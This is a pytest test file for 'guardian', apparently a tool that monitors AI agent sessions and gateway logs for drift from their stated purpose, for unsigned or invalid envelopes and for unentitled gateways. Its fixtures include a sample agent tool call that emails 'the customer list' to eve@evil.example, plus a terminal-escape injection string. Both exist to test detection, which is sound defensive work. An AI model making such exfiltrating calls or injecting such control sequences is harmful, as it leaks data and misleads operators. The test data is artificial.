"""`guardian score` keeps its contract: this is how others measure us."""

import gzip
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from joserfc import jws
from joserfc.jwk import OKPKey

SESSIONS = [
    {
        "session_id": "a",
        "purpose": "Read the contract of Acme and summarise the renewal terms",
        "domain": "legal",
        "tools": [{"name": "contracts.read", "description": "Reads a contract."}],
        "actions": [
            {"tool": "contracts.read", "args": {"customer": "Acme"}, "label": "benign"},
            {
                "tool": "email.send",
                "args": {"to": "eve@evil.example", "body": "the customer list"},
                "label": "drift",
            },
        ],
    },
    {"session_id": "b", "purpose": "", "domain": "x", "actions": [{"tool": "files.delete"}]},
]


def lines(*sessions: object) -> str:
    return "".join(json.dumps(s) + "\n" for s in sessions)


def scored(text: str) -> list[dict[str, object]]:
    return [json.loads(line) for line in text.splitlines()]


def test_one_line_per_action_in_input_order_with_every_promised_field(guardian) -> None:
    done = guardian("score", "-", stdin=lines(*SESSIONS))
    assert done.returncode == 0
    out = scored(done.stdout)
    assert [(o["session_id"], o["index"]) for o in out] == [("a", 0), ("a", 1), ("b", 0)]
    for o in out:
        assert set(o) == {
            "session_id",
            "index",
            "drift",
            "p_value",
            "session_evidence",
            "signals",
            "features_missing",
        }
        assert 0 <= o["drift"] <= 1
        assert o["p_value"] is None or 0 < o["p_value"] <= 1
        assert all(0 <= v <= 1 for v in o["signals"].values())
    assert out[1]["drift"] > out[0]["drift"]
    assert [o["p_value"] is None for o in out] == [False, False, True]
    assert "purpose" in out[2]["features_missing"]
    assert "arguments" in out[2]["features_missing"]


def test_neither_labels_nor_the_order_of_sessions_matter(guardian) -> None:
    flipped = json.loads(json.dumps(SESSIONS))
    for action in flipped[0]["actions"]:
        action["label"] = "drift" if action["label"] == "benign" else "benign"
    one = scored(guardian("score", "-", stdin=lines(*SESSIONS)).stdout)
    other = scored(guardian("score", "-", stdin=lines(*reversed(flipped))).stdout)
    assert sorted(map(json.dumps, one)) == sorted(map(json.dumps, other))


def test_an_unreadable_line_is_reported_in_place_and_the_rest_is_scored(guardian, tmp_path: Path) -> None:
    path = tmp_path / "in.jsonl.gz"
    with gzip.open(path, "wt") as stream:
        stream.write(lines(SESSIONS[0]) + "{broken\n" + '{"session_id": "c", "actions": 7}\n' + lines(SESSIONS[1]))
    done = guardian("score", str(path), "-o", "out.jsonl")
    assert done.returncode == 3
    out = scored((tmp_path / "out.jsonl").read_text())
    assert [o.get("line") for o in out] == [None, None, 2, 3, None]
    assert all(set(o) == {"line", "error"} for o in out if "line" in o)


def test_decisions_are_scored_like_sessions(guardian) -> None:
    decision = {
        "schema": "guardian.decision/v1", "id": "d", "time": "2026-05-12T17:04:11Z", "gateway": "g",
        "envelope": {"delegator_id": "u", "tenant_id": "t", "session_id": "s", "purpose": SESSIONS[0]["purpose"],
                     "allowed_tools": ["contracts.read"], "expires_at": "2026-05-12T18:00:00Z"},
        "action": {"tool": "email.send", "arguments": {"to": "eve@evil.example"}}, "decision": {"effect": "allow"},
    }  # fmt: skip
    done = guardian("score", "-", stdin=lines(decision, {**decision, "time": "yesterday"}, decision))
    out = scored(done.stdout)
    assert done.returncode == 3
    assert [o.get("index") for o in out] == [0, None, 0]  # every line is scored; a repeated one is the same act
    assert out[0]["signals"]["envelope_breach"] > 0


def test_scoring_never_imports_torch(guardian, tmp_path: Path) -> None:
    code = (
        "import sys; sys.argv = ['guardian', 'score', 'in.jsonl', '-o', 'out.jsonl']\n"
        "from guardian.cli import main\n"
        "try: main()\n"
        "except SystemExit as end: assert not end.code, end.code\n"
        "heavy = {'torch', 'sentence_transformers', 'transformers'} & set(sys.modules)\n"
        "assert not heavy, heavy\n"
    )
    (tmp_path / "in.jsonl").write_text(lines(*SESSIONS))
    subprocess.run([sys.executable, "-c", code], cwd=tmp_path, check=True, capture_output=True, timeout=120)
    assert (tmp_path / "out.jsonl").exists()


def test_an_empty_file_is_an_empty_answer(guardian) -> None:
    done = guardian("score", "-", stdin="")
    assert (done.returncode, done.stdout) == (0, "")


def test_the_input_is_never_written_over(guardian, tmp_path: Path) -> None:
    path = tmp_path / "in.jsonl"
    path.write_text(lines(*SESSIONS))
    (tmp_path / "link.jsonl").symlink_to(path)
    for output, said in (("in.jsonl", "is what is read"), ("link.jsonl", "is what is read"), (".", "is a folder")):
        done = guardian("score", "in.jsonl", "-o", output)
        assert done.returncode == 2
        assert said in done.stderr
    assert path.read_text() == lines(*SESSIONS)


def test_a_pipe_or_device_is_written_to_and_stays_what_it_is(guardian, tmp_path: Path) -> None:
    """A file is replaced as a whole; /dev/null would be gone for the whole machine."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reading = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    try:
        assert guardian("score", "-", "-o", "pipe", stdin=lines(*SESSIONS)).returncode == 0
        assert pipe.is_fifo()
        assert len(scored(os.read(reading, 65536).decode())) == 3
    finally:
        os.close(reading)


def test_an_output_for_which_there_is_no_room_is_named(guardian, tmp_path: Path) -> None:
    for many in (1, 50):  # it is noticed at the end, or in the midst
        (tmp_path / "in.jsonl").write_text(lines(*SESSIONS * many))
        done = guardian("score", "in.jsonl", "-o", "/dev/full")
        assert (done.returncode, done.stderr) == (1, "guardian: /dev/full: No space left on device\n")


def test_a_link_stays_one_and_what_it_leads_to_is_written(guardian, tmp_path: Path) -> None:
    link, there = tmp_path / "link.jsonl", tmp_path / "there.jsonl"
    link.symlink_to(there)
    for before in (None, "longer than what comes\n" * 500):
        if before is not None:
            there.write_text(before)
        assert guardian("score", "-", "-o", "link.jsonl", stdin=lines(*SESSIONS)).returncode == 0
        assert link.is_symlink()
        assert len(scored(there.read_text())) == 3
    link.unlink()
    link.symlink_to("nowhere/there.jsonl")
    done = guardian("score", "-", "-o", "link.jsonl", stdin=lines(*SESSIONS))
    assert done.returncode == 2
    assert "cannot write link.jsonl" in done.stderr


def test_a_run_that_fails_leaves_what_a_link_leads_to(guardian, tmp_path: Path) -> None:
    (tmp_path / "link.json").symlink_to(tmp_path / "live.json")
    (tmp_path / "live.json").write_text("the yardstick in use")
    (tmp_path / "in.jsonl").write_text(lines(*SESSIONS))
    assert guardian("calibrate", "in.jsonl", "-o", "link.json").returncode == 2
    assert (tmp_path / "live.json").read_text() == "the yardstick in use"


def test_standard_output_that_is_a_file_gets_the_verdicts_after_what_it_holds(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "guardian", "score", "in.jsonl", "-o", "stdout"]
    (tmp_path / "in.jsonl").write_text(lines(*SESSIONS))
    (tmp_path / "stdout").symlink_to("/dev/stdout")
    out = tmp_path / "out.jsonl"
    out.write_text('{"held": 1}\n')
    with out.open("ab") as stream:
        subprocess.run(command, cwd=tmp_path, stdout=stream, check=True, capture_output=False, timeout=120)
    assert [each.get("held") for each in scored(out.read_text())] == [1, None, None, None]
    assert (tmp_path / "stdout").is_symlink()


def test_a_folder_and_unnamed_gzip_are_told_apart_from_bad_lines(guardian, tmp_path: Path) -> None:
    folder = guardian("score", ".")
    assert folder.returncode == 2
    assert "is a folder, not a file" in folder.stderr
    (tmp_path / "in.jsonl").write_bytes(gzip.compress(lines(*SESSIONS).encode()))
    for command in ("score", "replay"):
        named = guardian(command, "in.jsonl")
        assert named.returncode == 2
        assert "give it a name that ends in .gz" in named.stderr
        done = guardian(command, "-", stdin=(tmp_path / "in.jsonl").read_bytes())
        assert done.returncode == 2
        assert "this is gzip: decompress it, or give the file by name" in done.stderr


def test_what_agents_wrote_steers_no_terminal_from_replayed_findings(guardian, tmp_path: Path) -> None:
    evil = "to\u009b31m\u202e\u2028end"
    envelope = {"delegator_id": "u", "tenant_id": "t", "session_id": "s", "task_id": "k", "purpose": "review it"}
    line = {
        "schema": "guardian.decision/v1",
        "id": "dec_1",
        "time": "2026-05-12T17:04:11Z",
        "gateway": "gw",
        "envelope": {**envelope, "allowed_tools": ["a.b"], "expires_at": "2026-05-12T16:00:00Z"},
        "action": {"tool": "email.send", "arguments": {"to": evil}},
        "decision": {"effect": "allow", "policy_ids": [], "reason": ""},
    }
    (tmp_path / "log.jsonl").write_text(lines(line))
    done = guardian("replay", "log.jsonl", "--json")
    assert done.stdout.isascii()
    assert evil in {
        json.loads(found["act"]["arguments"])["to"] for found in map(json.loads, done.stdout.splitlines())
    }


@pytest.mark.parametrize(("gateways", "code"), [("{gw: [t]}", 0), ("{another: [t]}", 3), ("{}", 0)])
def test_a_replay_believes_the_gateways_that_the_monitor_would_believe(
    guardian, tmp_path: Path, gateways: str, code: int
) -> None:
    envelope = {"delegator_id": "u", "tenant_id": "t", "session_id": "s", "purpose": "review it"}
    line = {
        "schema": "guardian.decision/v1",
        "id": "dec_1",
        "time": "2026-05-12T17:04:11Z",
        "gateway": "gw",
        "envelope": {**envelope, "allowed_tools": ["a.b"], "expires_at": "2026-05-12T18:00:00Z"},
        "action": {"tool": "a.b", "arguments": {}},
        "decision": {"effect": "allow", "policy_ids": [], "reason": ""},
    }
    (tmp_path / "log.jsonl").write_text(lines(line))
    (tmp_path / "guardian.yaml").write_text(f"model: {{engine: lexical}}\ngateways: {gateways}\n")
    done = guardian("replay", "log.jsonl", "--json")
    assert done.returncode == code
    assert ("gateway_not_entitled" in done.stderr) is (code == 3)
    found = [json.loads(each) for each in done.stdout.splitlines()]
    assert ([(each["kind"], each["severity"]) for each in found] == [("entitlement", "high")]) is (code == 3)


@pytest.mark.parametrize(
    ("signer", "configured", "effects", "told"),
    [
        (0, True, "", []),
        (1, True, "", [("signature_invalid", "revoke")]),
        (1, False, "", []),
        (None, False, "", []),
        (None, True, "", [("signature_missing", "flag")]),
        (None, True, "{signature_missing: revoke}", [("signature_missing", "revoke")]),
        (None, True, "{signature_missing: none}", []),
    ],
)
def test_a_replay_checks_the_signatures_of_envelopes_where_their_keys_are_configured(
    guardian, tmp_path: Path, signer: int | None, configured: bool, effects: str, told: list[Any]
) -> None:
    keys = [OKPKey.generate_key("Ed25519", auto_kid=True) for _ in range(2)]
    (tmp_path / "jwks.json").write_text(json.dumps({"keys": [keys[0].as_dict(private=False)]}))
    settings = "keys: {envelope_jwks: jwks.json}\n" if configured else ""
    settings += f"response: {{breaches: {effects}}}\n" if effects else ""
    (tmp_path / "guardian.yaml").write_text(f"model: {{engine: lexical}}\n{settings}")
    envelope = {"delegator_id": "u", "tenant_id": "t", "session_id": "s", "purpose": "review it"}
    line = {
        "schema": "guardian.decision/v1",
        "id": "dec_1",
        "time": "2026-05-12T17:04:11Z",
        "gateway": "gw",
        "envelope": envelope,
        "action": {"tool": "a.b", "arguments": {}},
        "decision": {"effect": "allow", "policy_ids": [], "reason": ""},
    }
    if signer is not None:
        header = {"alg": "Ed25519", "kid": keys[signer].kid}
        line["envelope_jws"] = jws.serialize_compact(
            header, json.dumps(envelope), keys[signer], algorithms=["Ed25519"]
        )
    (tmp_path / "log.jsonl").write_text(lines(line))
    done = guardian("replay", "log.jsonl", "--json")
    assert done.returncode == 0, done.stderr
    found = [json.loads(each) for each in done.stdout.splitlines()]
    assert [(each["breaches"][0]["name"], each["wanted"]) for each in found if each["kind"] == "drift"] == told
